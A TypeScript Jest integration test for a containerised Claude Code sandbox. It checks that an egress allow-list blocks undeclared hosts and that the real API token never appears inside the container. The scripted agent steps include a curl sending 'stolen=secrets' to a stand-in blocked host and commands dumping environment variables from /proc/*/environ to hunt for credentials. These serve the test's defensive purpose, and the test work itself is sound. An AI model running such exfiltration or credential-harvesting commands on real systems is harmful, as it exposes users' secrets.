import { randomBytes } from "node:crypto";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "@jest/globals";
import { describeWithEngine, docker, Undo } from "../support/engine.ts";
import { Installation } from "../support/installation.ts";
import { CliProcess } from "../support/cli-process.ts";
import { run, until } from "../support/process.ts";
import { agentContainer, endGently } from "../support/real-agent.ts";
import { type StandIn, startStandIn } from "../support/stand-in.ts";
import { Terminal } from "../support/terminal.ts";

const ALLOWED = "allowed.test";
const ALLOWED_TEXT = "This is the allowed host.";
const BLOCKED = "blocked.test";
const token = (prefix: string): string => `${prefix}-${randomBytes(24).toString("base64url")}`;
const TOKENS = { CLAUDE_CODE_OAUTH_TOKEN: token("sk-ant-oat01"), ANTHROPIC_API_KEY: token("sk-ant-api03") } as const;
type TokenName = keyof typeof TOKENS;

/** Shell calls of the agent; the test looks into the bottle while the fourth waits. */
const STEPS = [
  `curl -sS https://${ALLOWED}/ | tee /tmp/allowed`,
  `curl -sS "https://${BLOCKED}/?stolen=secrets" | tee /tmp/blocked`,
  "{ env; cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; } | sort -u | tee /tmp/environment",
  "touch /tmp/waiting; until [ -e /tmp/go ]; do sleep 0.1; done",
  'for name in allowed blocked environment; do echo "== $name"; cat /tmp/$name; done',
];
/** Everything that a process could have been handed, as whoever asks may see it. */
const LOOK = "env; for file in /proc/*/environ /proc/*/cmdline; do cat $file 2>/dev/null | tr '\\0' '\\n'; done";

const DIALOGS =
  /trust this folder|Yes, I accept|Enter to confirm|login method|Choose the text style|Detected a custom API key/i;

const undo = new Undo();
const perTest = new Undo();
let installation: Installation;
let standIn: StandIn;

async function writeBottle(name: string, api: StandIn): Promise<void> {
  await installation.write(
    name,
    `
agent_provider: { template: claude }
egress:
  upstream: ${api.upstream}
  routes:
    - ${api.apiRoute}
    - { host: ${ALLOWED}, matches: [{ methods: [GET] }], allow_private: ["${api.network.subnet}"] }
`,
  );
}

describeWithEngine("the real Claude Code in a bottle", () => {
  beforeAll(async () => {
    installation = await Installation.make({});
    undo.defer(() => installation.remove());
    const answers = { [`GET ${ALLOWED}/`]: { body: ALLOWED_TEXT } };
    standIn = await startStandIn(undo, installation, { steps: STEPS, hosts: [ALLOWED], answers });
    await writeBottle("headless", standIn);
  });
  afterEach(() => perTest.run());
  afterAll(() => undo.run());

  describe.each(["CLAUDE_CODE_OAUTH_TOKEN", "ANTHROPIC_API_KEY"] as const)("with %s", (name: TokenName) => {
    it("works headless; neither it nor root beside it finds the token that the API gets", async () => {
      const value = TOKENS[name];
      const before = (await standIn.requests()).length;
      const argv = ["start", "headless", "--headless", "--yes", "--json", "--prompt", "go"];
      const running = CliProcess.start(installation, argv, { env: { [name]: value }, stdin: "" });
      perTest.defer(() => endGently(running));
      const agent = await agentContainer(installation);
      await until("the agent's fourth call", async () =>
        (await run("docker", ["exec", agent, "ls", "/tmp"])).stdout.includes("waiting") ? true : undefined,
      ).catch((error: unknown) => {
        throw new Error(`${String(error)}: ${running.stderr}`, { cause: error });
      });
      const seen = await Promise.all(
        ["node", "0"].map((user) => docker(["exec", "--user", user, agent, "sh", "-c", LOOK])),
      );
      await docker(["exec", "--user", "node", agent, "touch", "/tmp/go"]);
      const { exitCode, stdout } = await running.ended;

      expect(exitCode).toBe(0);
      const { output } = JSON.parse(stdout) as { output: string };
      expect(output).toContain(ALLOWED_TEXT);
      expect(output).toContain('"code":"host_not_declared"');
      expect(output).toContain(`"host":"${BLOCKED}"`);
      for (const text of [output, ...seen]) expect(text).not.toContain(value);
      // The same look finds what is there: the placeholder in the program's own environment.
      expect(output).toMatch(new RegExp(`${name}=\\S`));
      expect(seen[0]).toMatch(new RegExp(`${name}=\\S`));

      const requests = (await standIn.requests()).slice(before);
      const sent = requests.filter(({ host }) => host === "api.anthropic.com");
      expect(sent.length).toBeGreaterThan(STEPS.length);
      const used = new Set(sent.map(({ authorization, apiKey }) => authorization ?? apiKey));
      expect(used).toEqual(new Set([name === "ANTHROPIC_API_KEY" ? value : `Bearer ${value}`]));
      expect(requests.filter(({ host }) => host === BLOCKED)).toEqual([]);
    });
  });

  describe("on a terminal", () => {
    beforeAll(async () => {
      const api = await startStandIn(undo, installation, { steps: ["echo the tide is at noon"], hosts: [ALLOWED] });
      await writeBottle("terminal", api);
      Object.assign(installation.env, { CLAUDE_CODE_OAUTH_TOKEN: TOKENS.CLAUDE_CODE_OAUTH_TOKEN });
    });

    const sizeInside = async (agent: string): Promise<string> =>
      await docker(["exec", "--user", "node", agent, "sh", "-c", "stty -F /proc/$(pgrep -o claude)/fd/0 size"]);

    it("shows its prompt without a dialog, takes keys, follows the size, and ends with 0", async () => {
      const terminal = await Terminal.open(perTest, installation, ["start", "terminal", "--yes"]);
      expect(await terminal.shows(/bypass permissions/)).not.toMatch(DIALOGS);
      const agent = await agentContainer(installation);
      expect(await sizeInside(agent)).toBe("40 110");

      await terminal.type("When is the tide?");
      await terminal.shows("the tide is at noon");

      await terminal.resize(72, 30);
      await until("the new size inside", async () => ((await sizeInside(agent)) === "30 72" ? true : undefined));
      await terminal.shows(/^─{72}$/m); // the box around the input, drawn anew

      await terminal.type("/exit");
      expect(await terminal.exitCode()).toBe(0);
      const { before, after, modes } = await terminal.leftBehind();
      expect(after.replace(/rows.*columns \d+/, "")).toBe(before.replace(/rows.*columns \d+/, ""));
      expect(modes).toBe(
        "alternate_on=0 mouse_any_flag=0 cursor_flag=1 insert_flag=0 keypad_cursor_flag=0 keypad_flag=0",
      );
      expect(await installation.left()).toEqual([]);
    });

    it("hands on the exit code of a killed agent", async () => {
      const terminal = await Terminal.open(perTest, installation, ["start", "terminal", "--yes"]);
      await terminal.shows(/bypass permissions/);
      const agent = await agentContainer(installation);
      await docker(["exec", "--user", "node", agent, "sh", "-c", "kill -KILL $(pgrep -o claude)"]);
      expect(await terminal.exitCode()).toBe(137);
      const { before, after } = await terminal.leftBehind();
      expect(after).toBe(before);
      expect(await installation.left()).toEqual([]);
    });
  });
});
